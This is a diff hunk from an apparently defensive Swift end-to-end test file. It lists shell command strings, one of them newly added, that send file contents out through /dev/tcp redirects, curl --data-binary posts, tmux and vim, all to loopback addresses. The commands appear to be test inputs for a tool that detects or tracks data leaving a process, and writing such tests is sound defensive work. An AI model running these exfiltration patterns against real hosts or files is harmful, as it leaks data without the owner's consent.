@@ -26,6 +26,7 @@ extension EndToEnd.CarriesTests {
         "cat $F > /dev/tcp/127.0.0.2/$C; cp -a $F kept; cat $G > /dev/tcp/127.0.0.1/$P",
         "/usr/bin/python3 $T/channels.py innocent; cat $G > /dev/tcp/127.0.0.1/$P",
         "/usr/bin/python3 $T/channels.py innocent-descriptors",
+        "/usr/bin/python3 $T/channels.py innocent-connections && cat $G > /dev/tcp/127.0.0.1/$P",
         "less $F > kept; (read -r l < $F; exec curl -s -m 10 http://127.0.0.2:$C/); curl -s -m 10 --data-binary @$G http://127.0.0.1:$P/",
         "tmux -S t -f /dev/null new-session -d \"bash -c 'cat $G > /dev/tcp/127.0.0.1/$P'; tmux -S t wait-for -S sent\"; tmux -S t wait-for sent",
         "wc -l $F; vim -u NONE -es -c \"r $G\" -c 'w! c' -c 'q!'; cat c > /dev/tcp/127.0.0.1/$P",
